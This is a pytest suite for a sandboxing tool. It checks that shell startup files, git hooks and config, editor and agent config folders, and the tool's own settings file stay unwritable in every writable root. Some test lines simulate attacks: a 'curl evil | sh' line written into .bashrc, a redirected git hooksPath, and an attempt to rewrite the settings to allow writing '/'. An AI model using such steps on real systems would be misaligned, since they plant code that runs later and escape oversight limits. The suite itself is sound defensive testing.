# Built-in protection of shell, git, editor and agent config inside every writable root, existing or not.
import json
import os
import stat

import pytest

from conftest import PY, tree_listing

FILES = [".bashrc", ".bash_profile", ".zshrc", ".zprofile", ".profile", ".gitconfig",
         ".gitmodules", ".ripgreprc", ".mcp.json"]
DIR_FILES = [".vscode/settings.json", ".idea/workspace.xml", ".claude/commands/run.md",
             ".claude/agents/helper.md", ".sandbox/notes.txt", ".git/hooks/pre-commit",
             ".git/config"]
ALL = FILES + DIR_FILES

# Runs inside the sandbox: try each (op, path) and print what happened.
PROBE = r'''
import json, os, shutil, sys
res = {}
for op, p in json.loads(sys.argv[1]):
    try:
        if op == "append":
            with open(p, "a") as f: f.write("pwned\n")
        elif op == "truncate":
            with open(p, "w") as f: f.write("pwned\n")
        elif op == "create":
            d = os.path.dirname(p)
            if d:
                try: os.makedirs(d, exist_ok=True)
                except OSError: pass
            with open(p, "a") as f: f.write("pwned\n")
        elif op == "rm":
            shutil.rmtree(p) if os.path.isdir(p) and not os.path.islink(p) else os.unlink(p)
        elif op == "mv":
            os.rename(p, p.rstrip("/") + ".moved")
        elif op == "chmod":
            os.chmod(p, 0o777)
        elif op == "symlink":
            os.unlink(p) if os.path.lexists(p) else None
            os.symlink("/etc/hostname", p)
        res[op + " " + p] = "ok"
    except OSError as e:
        res[op + " " + p] = e.strerror
print(json.dumps(res))
'''


def probe(ctx, ops, settings, **kw):
    r = ctx.run([PY, "-c", PROBE, json.dumps(ops)], settings=settings, **kw)
    assert r.rc == 0, r
    return json.loads(r.out), r


def succeeded(res):
    return sorted(k for k, v in res.items() if v == "ok")


def allow_proj(ctx, **extra):
    fs = {"allowWrite": [ctx.proj]}
    fs.update(extra)
    return {"filesystem": fs}


def make_existing(ctx, base=None, paths=ALL):
    base = base or ctx.proj
    for rel in paths:
        ctx.write(os.path.join(base, rel), "{}\n")
    ctx.write(os.path.join(base, ".git/HEAD"), "ref: refs/heads/main\n")


def assert_unchanged(ctx, base, paths):
    for rel in paths:
        assert ctx.read(os.path.join(base, rel)) == "{}\n", rel


# The folders on the way to a protected path (.claude for .claude/commands)
# may be created with mkdir: an empty folder holds nothing.
ANCESTORS = {".claude"}


def assert_only_empty_ancestors_added(ctx, before, r):
    """Nothing changed in the project but for empty folders the command
    itself may make on the way to protected paths."""
    after = tree_listing(ctx.proj)
    assert before - after == set(), r
    for rel, kind in after - before:
        assert rel in ANCESTORS and kind == stat.S_IFDIR, (rel, r)
        assert os.listdir(ctx.p(rel)) == [], (rel, r)


# --- existing files ----------------------------------------------------------

def test_existing_protected_files_not_writable(ctx):
    make_existing(ctx)
    ops = [(op, p) for p in ALL for op in ("append", "truncate", "rm", "mv", "chmod", "symlink")]
    res, r = probe(ctx, ops, allow_proj(ctx))
    assert succeeded(res) == [], r
    assert_unchanged(ctx, ctx.proj, ALL)


def test_ordinary_files_stay_writable(ctx):
    make_existing(ctx)
    ctx.write("README", "orig\n")
    ctx.write("src/main.c", "int main;\n")
    # In a git folder, git's everyday files (COMMIT_EDITMSG, refs) are
    # ordinary; a name no everyday git command writes (description) is not.
    ops = [("append", "README"), ("create", "new.txt"), ("create", "src/new/deep.txt"),
           ("truncate", "src/main.c"), ("create", ".git/COMMIT_EDITMSG"),
           ("create", ".git/refs/heads/topic"), ("create", ".env"), ("create", ".git/description")]
    res, r = probe(ctx, ops, allow_proj(ctx))
    assert succeeded(res) == sorted(k for k in res if k != "create .git/description"), r
    assert res["create .git/description"] == "Permission denied", r
    assert not ctx.exists(".git/description"), r
    assert ctx.read("README") == "orig\npwned\n"
    assert ctx.read("src/new/deep.txt") == "pwned\n"
    assert ctx.read(".git/COMMIT_EDITMSG") == "pwned\n"


# --- files that do not exist yet ---------------------------------------------

def test_protected_files_cannot_be_created(ctx):
    ctx.write(".git/HEAD", "ref: refs/heads/main\n")  # a repository without hooks or config
    before = tree_listing(ctx.proj)
    ops = [("create", p) for p in ALL]
    res, r = probe(ctx, ops, allow_proj(ctx))
    assert succeeded(res) == [], r
    assert_only_empty_ancestors_added(ctx, before, r)


def test_protected_dirs_cannot_be_created(ctx):
    before = tree_listing(ctx.proj)
    ops = [("create", p) for p in (".vscode/tasks.json", ".idea/x", ".claude/commands/x.md",
                                    ".claude/agents/x.md", ".sandbox/settings.json")]
    res, r = probe(ctx, ops, allow_proj(ctx))
    assert succeeded(res) == [], r
    assert not ctx.exists(".vscode/tasks.json")
    assert_only_empty_ancestors_added(ctx, before, r)


def test_git_hooks_cannot_be_planted_without_repo(ctx):
    # git init later would keep an existing hooks folder.
    ops = [("create", ".git/hooks/pre-commit"), ("create", ".git/config")]
    res, r = probe(ctx, ops, allow_proj(ctx))
    assert succeeded(res) == [], r
    assert not ctx.exists(".git/hooks/pre-commit")
    assert not ctx.exists(".git/config")


def test_shell_create_bashrc_fails(ctx):
    r = ctx.sh("echo 'curl evil | sh' > .bashrc", settings=allow_proj(ctx))
    assert r.rc != 0, r
    assert not ctx.exists(".bashrc")
    r = ctx.sh("mkdir -p .vscode && echo '{}' > .vscode/tasks.json", settings=allow_proj(ctx))
    assert r.rc != 0, r
    assert not ctx.exists(".vscode/tasks.json")


# --- directories above protected paths ---------------------------------------

def test_protected_parents_cannot_be_renamed_or_removed(ctx):
    make_existing(ctx)
    ops = [("mv", ".git"), ("mv", ".claude"), ("mv", ".vscode"), ("mv", ".idea"),
           ("mv", ".sandbox"), ("mv", ".git/hooks"), ("mv", ".claude/commands"),
           ("rm", ".vscode"), ("rm", ".git"), ("rm", ".claude")]
    res, r = probe(ctx, ops, allow_proj(ctx))
    assert succeeded(res) == [], r
    assert_unchanged(ctx, ctx.proj, ALL)


def test_shell_mv_git_fails(ctx):
    make_existing(ctx)
    r = ctx.sh("mv .git g", settings=allow_proj(ctx))
    assert r.rc != 0, r
    assert ctx.exists(".git/config") and not ctx.exists("g")
    r = ctx.sh("mv .claude x", settings=allow_proj(ctx))
    assert r.rc != 0, r
    assert ctx.exists(".claude/commands/run.md") and not ctx.exists("x")


# --- allowGitConfig ----------------------------------------------------------

def test_allow_git_config(ctx):
    make_existing(ctx)
    ops = [("append", ".git/config"), ("append", ".git/hooks/pre-commit"), ("append", ".bashrc")]
    res, r = probe(ctx, ops, allow_proj(ctx, allowGitConfig=True))
    assert succeeded(res) == ["append .git/config"], r
    assert ctx.read(".git/config") == "{}\npwned\n"


def test_git_config_protected_by_default(ctx):
    make_existing(ctx)
    r = ctx.sh("git config --file .git/config core.hooksPath /tmp", settings=allow_proj(ctx))
    assert r.rc != 0, r
    assert ctx.read(".git/config") == "{}\n"


# --- every writable root -----------------------------------------------------

def test_every_writable_root_is_protected(ctx):
    other = ctx.mkdir(os.path.join(ctx.root, "other"))
    make_existing(ctx, other, [".zshrc", ".git/hooks/post-checkout", ".git/config"])
    s = {"filesystem": {"allowWrite": [ctx.proj, other]}}
    ops = [("create", os.path.join(other, p)) for p in ALL] + \
          [("create", os.path.join(other, "ordinary.txt"))]
    res, r = probe(ctx, ops, s)
    assert succeeded(res) == ["create " + os.path.join(other, "ordinary.txt")], r
    assert_unchanged(ctx, other, [".zshrc", ".git/hooks/post-checkout", ".git/config"])
    assert not os.path.exists(os.path.join(other, ".bashrc"))


def test_home_as_writable_root(ctx):
    make_existing(ctx, ctx.home, [".bashrc", ".gitconfig"])
    s = {"filesystem": {"allowWrite": ["~"]}}
    ops = [("append", os.path.join(ctx.home, ".bashrc")), ("append", os.path.join(ctx.home, ".gitconfig")),
           ("create", os.path.join(ctx.home, ".profile")), ("create", os.path.join(ctx.home, "fine.txt"))]
    res, r = probe(ctx, ops, s)
    assert succeeded(res) == ["create " + os.path.join(ctx.home, "fine.txt")], r


def test_writable_root_that_is_not_cwd(ctx):
    # The protection does not depend on the working directory.
    w = ctx.mkdir("w")
    make_existing(ctx, w, [".bashrc", ".git/hooks/pre-commit"])
    s = {"filesystem": {"allowWrite": [w]}}
    r = ctx.run(["sh", "-c", 'cd "$1" && echo x >> .bashrc; echo x >> .git/hooks/pre-commit; echo x > .profile',
                 "sh", w], settings=s, cwd=ctx.home)
    assert_unchanged(ctx, w, [".bashrc", ".git/hooks/pre-commit"])
    assert not os.path.exists(os.path.join(w, ".profile")), r


# --- nested repositories -----------------------------------------------------

def test_nested_repositories(ctx):
    for repo in ("a", "a/b"):
        make_existing(ctx, ctx.p(repo), [".git/config", ".git/hooks/pre-commit", ".bashrc"])
    ctx.mkdir("a/b/.git/objects")
    ops = []
    for repo in ("a", "a/b"):
        ops += [("append", repo + "/.git/config"), ("append", repo + "/.git/hooks/pre-commit"),
                ("create", repo + "/.git/hooks/post-merge"), ("append", repo + "/.bashrc"),
                ("mv", repo + "/.git"), ("create", repo + "/ordinary.txt")]
    res, r = probe(ctx, ops, allow_proj(ctx))
    assert succeeded(res) == ["create a/b/ordinary.txt", "create a/ordinary.txt"], r
    for repo in ("a", "a/b"):
        assert_unchanged(ctx, ctx.p(repo), [".git/config", ".git/hooks/pre-commit", ".bashrc"])
        assert not ctx.exists(repo + "/.git/hooks/post-merge")


def test_search_depth_setting_reaches_deeper_repository(ctx):
    make_existing(ctx, ctx.p("x/y/z/w"), [".git/config", ".git/hooks/pre-commit", ".bashrc"])
    ops = [("append", "x/y/z/w/.git/config"), ("append", "x/y/z/w/.git/hooks/pre-commit"),
           ("append", "x/y/z/w/.bashrc"), ("create", "x/y/z/w/ordinary")]
    s = allow_proj(ctx)
    s["mandatoryDenySearchDepth"] = 8
    res, r = probe(ctx, ops, s)
    assert succeeded(res) == ["create x/y/z/w/ordinary"], r


# --- the settings files srt loaded -------------------------------------------

def test_loaded_settings_file_not_writable(ctx):
    s = ctx.settings({"filesystem": {"allowWrite": ["."]}}, path=ctx.p("my-settings.json"))
    before = ctx.read(s)
    ops = [("truncate", s), ("rm", s), ("mv", s), ("create", "ordinary.txt")]
    r = ctx.run([PY, "-c", PROBE, json.dumps(ops)], settings_file=s)
    assert r.rc == 0, r
    assert succeeded(json.loads(r.out)) == ["create ordinary.txt"], r
    assert ctx.read(s) == before


def test_home_settings_file_not_writable(ctx):
    f = ctx.settings({"filesystem": {"allowWrite": ["~"]}},
                     path=os.path.join(ctx.home, ".srt-settings.json"))
    r = ctx.sh("echo '{\"filesystem\": {\"allowWrite\": [\"/\"]}}' > ~/.srt-settings.json")
    assert r.rc != 0, r
    assert "allowWrite" in ctx.read(f) and '"/"' not in ctx.read(f)


# --- links and renames onto protected names -----------------------------------

def test_rename_and_link_onto_protected_names(ctx):
    make_existing(ctx, ctx.proj, [".bashrc"])
    ctx.write(".git/HEAD", "ref: refs/heads/main\n")
    r = ctx.sh("echo evil > x; mv x .profile; mv x .bashrc; mkdir h; mv h .git/hooks; "
               "ln -s x .zshrc; ln .bashrc y && echo evil >> y; "
               "mkdir -p v && echo evil > v/tasks.json && mv v .vscode; true",
               settings=allow_proj(ctx))
    assert r.rc == 0, r
    assert not ctx.exists(".profile") and not ctx.exists(".zshrc"), r
    assert not ctx.exists(".git/hooks"), r
    assert not ctx.exists(".vscode/tasks.json"), r
    assert ctx.read(".bashrc") == "{}\n", r


def test_protected_name_that_is_a_symlink(ctx):
    # A dotfiles setup: .bashrc is a link to a file in the same writable
    # folder, or a link to a file that does not exist yet. Either srt
    # refuses to start, or writing through the protected name fails.
    ctx.write("dotfiles/bashrc", "orig\n")
    ctx.symlink("dotfiles/bashrc", ".bashrc")
    ctx.symlink("profile.real", ".profile")
    r = ctx.sh("echo evil >> .bashrc; echo evil > .profile; echo ran", settings=allow_proj(ctx))
    assert ctx.read("dotfiles/bashrc") == "orig\n", r
    assert not ctx.exists("profile.real"), r
    if r.rc == 125:
        assert ".bashrc" in r.err or ".profile" in r.err, r
        assert "ran" not in r.out, r


def test_allow_write_folder_the_user_cannot_write(ctx):
    # An allowWrite folder where the host already refuses the user (a shared
    # settings file naming /usr/local, say): nothing there needs protecting,
    # since the sandbox cannot create files there either. The command runs.
    if ctx.uid == 0:
        pytest.skip("root can write everywhere")
    shared = os.path.join(ctx.root, "shared")
    os.mkdir(shared, 0o755)  # owned by root
    s = {"filesystem": {"allowWrite": [shared, ctx.proj]}}
    r = ctx.run(["sh", "-c", 'echo ran; touch "$1/.bashrc" "$1/f"; touch .bashrc', "sh", shared], settings=s)
    assert "ran" in r.out, r
    assert r.rc != 0, r
    assert os.listdir(shared) == [], r
    assert not ctx.exists(".bashrc"), r


# --- renaming folders above protected paths ----------------------------------

def test_folders_above_protected_paths_cannot_be_renamed(ctx):
    # A folder holding a denyWrite path cannot be renamed: the path would
    # be writable under its new name.
    ctx.write("w/sub/locked", "orig\n")
    # A folder holding a nested repository without hooks or config yet may
    # be moved (the .git name is protected wherever it goes, and no new
    # .git can take its place), but nothing can be planted in the .git at
    # its new place either.
    ctx.mkdir("a/.git")
    s = allow_proj(ctx, denyWrite=["w/sub/locked"])
    r = ctx.sh("mv a b; mv w/sub w/sub2; mv w w2; echo evil >> w/sub2/locked; "
               "mkdir -p b/.git/hooks a/.git/hooks; echo evil > b/.git/hooks/pre-commit; "
               "echo evil > b/.git/config; echo evil > a/.git/config; mkdir a; mkdir a/.git; true", settings=s)
    assert r.rc == 0, r
    assert ctx.read("w/sub/locked") == "orig\n", r
    assert not ctx.exists("w2") and not ctx.exists("w/sub2"), r
    assert os.listdir(ctx.p("b/.git")) == [], r
    assert not ctx.exists("a/.git"), r


# --- git worktrees and submodules (.git is a file) ----------------------------

def test_project_that_is_a_git_worktree(ctx):
    # In a worktree or a submodule checkout, .git is a file naming the real
    # git folder. srt must still run there, and leave nothing behind.
    ctx.write(".git", "gitdir: %s\n" % os.path.join(ctx.root, "main/.git/worktrees/proj"))
    ctx.write("README", "hi\n")
    before = tree_listing(ctx.proj)
    r = ctx.sh("echo ran; echo more >> README", settings=allow_proj(ctx))
    assert r.rc == 0 and "ran" in r.out, r
    assert ctx.read("README") == "hi\nmore\n"
    assert tree_listing(ctx.proj) == before


def test_submodule_hooks_and_config_protected(ctx):
    # A submodule is a nested repository whose git folder lives in
    # .git/modules/NAME: its hooks run when git works in the submodule.
    ctx.write(".git/HEAD", "ref: refs/heads/main\n")
    ctx.write(".git/modules/sub/HEAD", "ref: refs/heads/main\n")
    ctx.write(".git/modules/sub/config", "{}\n")
    ctx.mkdir(".git/modules/sub/hooks")
    ctx.write("sub/.git", "gitdir: ../.git/modules/sub\n")
    ops = [("create", ".git/modules/sub/hooks/pre-commit"), ("append", ".git/modules/sub/config")]
    res, r = probe(ctx, ops, allow_proj(ctx))
    assert succeeded(res) == [], r
    assert not ctx.exists(".git/modules/sub/hooks/pre-commit")
    assert ctx.read(".git/modules/sub/config") == "{}\n"


def test_protected_parent_that_is_a_file(ctx):
    # .claude exists as a plain file: .claude/commands cannot exist, so
    # there is nothing to protect beyond the file itself; srt still runs.
    ctx.write(".claude", "x\n")
    r = ctx.sh("echo ran", settings=allow_proj(ctx))
    assert r.rc == 0 and "ran" in r.out, r
    assert ctx.read(".claude") == "x\n"
